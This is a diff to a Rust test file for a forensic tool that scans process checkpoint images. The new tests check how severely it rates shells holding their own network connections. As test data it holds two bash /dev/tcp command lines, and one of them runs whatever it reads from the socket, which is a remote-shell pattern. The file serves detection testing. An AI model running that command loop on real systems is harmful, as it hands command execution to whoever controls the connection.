@@ -6,7 +6,8 @@ use std::io::Cursor;
 use std::sync::Arc;
 
 use cryoscope::analysis::{Brought, Scan, Selection, Severity};
-use cryoscope::images::proto::{FileEntry, MemfdInodeEntry, MmEntry};
+use cryoscope::images::proto::{FdinfoEntry, FileEntry, MemfdInodeEntry, MmEntry, TaskKobjIdsEntry};
+use cryoscope::memory::Origin;
 use cryoscope::model::ids::Pid;
 use cryoscope::{Limits, Options, RootImage};
 use prost::Message as _;
@@ -246,7 +247,7 @@ fn a_program_that_an_upgrade_replaced_was_not_put_there() {
         mm.mm_saved_auxv[2 * secure + 1] = 1;
     });
     set_changes(&mut members, &[Changed { mode: 0o4755, ..file("/usr/bin/sudo", NEW) }, list, status]);
-    assert_eq!(about_process(&scan(&members, "PROC"), "PROC-012", 15), Some(Severity::Low));
+    assert_eq!(about_process(&scan(&members, "PROC"), "PROC-012", 15), Some(Severity::Info), "root gains nothing");
     // Without the new file, it is gone.
     set_changes(&mut members, &[]);
     assert_eq!(about_process(&scan(&members, "PROC"), "PROC-012", 15), Some(Severity::High));
@@ -282,4 +283,81 @@ fn the_image_tells_a_replaced_program_from_one_that_was_touched() {
     let scan = Scan::run(&checkpoint, &selection);
     assert_eq!(about_path(&scan, "FS-009", "/usr/bin/ps"), Some(Severity::High));
     assert_eq!(about_path(&scan, "FS-009", "/usr/bin/ls"), None);
+}
+
+/// Gives a process other arguments.
+fn set_arguments(members: &mut Members, pid: u32, argv: &[&str]) {
+    let honest = members.open();
+    let space = honest.memory().space_of(Pid(pid)).unwrap();
+    let start = space.mm().entry.mm_arg_start();
+    let bytes: Vec<u8> = argv.iter().flat_map(|word| [word.as_bytes(), b"\0"].concat()).collect();
+    let end = start + bytes.len() as u64;
+    let run = space.runs(start, end).next().unwrap();
+    let Origin::Recorded { image, offset, .. } = run.origin else { panic!("the arguments are not recorded") };
+    let (name, offset) = (image.to_string(), usize::try_from(offset).unwrap());
+    let mut contents = members.get(&name).to_vec();
+    contents[offset..offset + bytes.len()].copy_from_slice(&bytes);
+    members.set(&name, contents);
+    members.edit::<MmEntry>(&format!("checkpoint/mm-{pid}.img"), |_, mm| {
+        mm.mm_arg_end = Some(end);
+        mm.mm_env_start = Some(end);
+    });
+}
+
+#[test]
+fn a_shell_with_a_connection_of_its_own_is_excused_only_if_it_runs_no_answer() {
+    const SHELL: u32 = 12;
+    let with = |argv: &[&str], address: [u8; 4]| {
+        let mut members = compromise();
+        let mut table = 0;
+        members.clone().parts(&format!("checkpoint/ids-{SHELL}.img"), |image| {
+            table = TaskKobjIdsEntry::decode(image.records[0].0.as_slice()).unwrap().files_id();
+        });
+        // Of its three descriptors, one is left, with another number.
+        let mut socket = 0;
+        members.parts(&format!("checkpoint/fdinfo-{table}.img"), |image| {
+            image.records.retain_mut(|(bytes, _)| {
+                let mut entry = FdinfoEntry::decode(bytes.as_slice()).unwrap();
+                let is_first = entry.fd == Some(0);
+                (entry.fd, socket) = (Some(5), if is_first { entry.id() } else { socket });
+                *bytes = entry.encode_to_vec();
+                is_first
+            });
+        });
+        members.edit::<FileEntry>("checkpoint/files.img", |_, file| {
+            if let Some(connection) = file.isk.as_mut().filter(|one| one.id == Some(socket)) {
+                connection.dst_addr = vec![u32::from_le_bytes(address)];
+            }
+        });
+        set_arguments(&mut members, SHELL, argv);
+        about_process(&scan(&members, "PROC"), "PROC-005", SHELL)
+    };
+    let (near, far) = ([10, 0, 0, 9], [8, 8, 8, 8]);
+    let check = ["sh", "-c", "exec 5<>/dev/tcp/db/80; echo x >&5; cat <&5 | grep -q UP"];
+    assert_eq!(with(&check, near), Some(Severity::Low));
+    assert_eq!(with(&check, far), Some(Severity::Medium));
+    let runs = ["sh", "-c", "exec 5<>/dev/tcp/db/80; while read l; do $l; done <&5"];
+    assert!(with(&runs, near) >= Some(Severity::Medium));
+    assert!(with(&runs, far) >= Some(Severity::High));
+    // The script's name alone is nothing, as it is not open.
+    assert!(with(&["sh", "/usr/local/bin/emit.sh"], near) >= Some(Severity::Medium));
+    assert!(with(&["sh"], near) >= Some(Severity::High));
+}
+
+#[test]
+fn a_table_of_descriptors_that_was_never_written_is_no_damage() {
+    let quality = |members: &Members| {
+        let found = scan(members, "EVD");
+        found.findings.into_iter().find(|one| one.rule.id == "EVD-001").map(|one| one.sentence)
+    };
+    // All that the process has open, the other one has, too: nothing is left over.
+    let mut members = reference();
+    let before = quality(&members);
+    let table = members.0.iter().map(|member| member.name.clone()).find(|name| name.contains("/fdinfo-")).unwrap();
+    members.remove(&table);
+    assert_eq!(quality(&members), before);
+    // The files of the first process are left over.
+    let mut members = compromise();
+    members.remove("checkpoint/fdinfo-2.img");
+    assert!(quality(&members).is_some_and(|sentence| sentence.contains("image_missing")));
 }
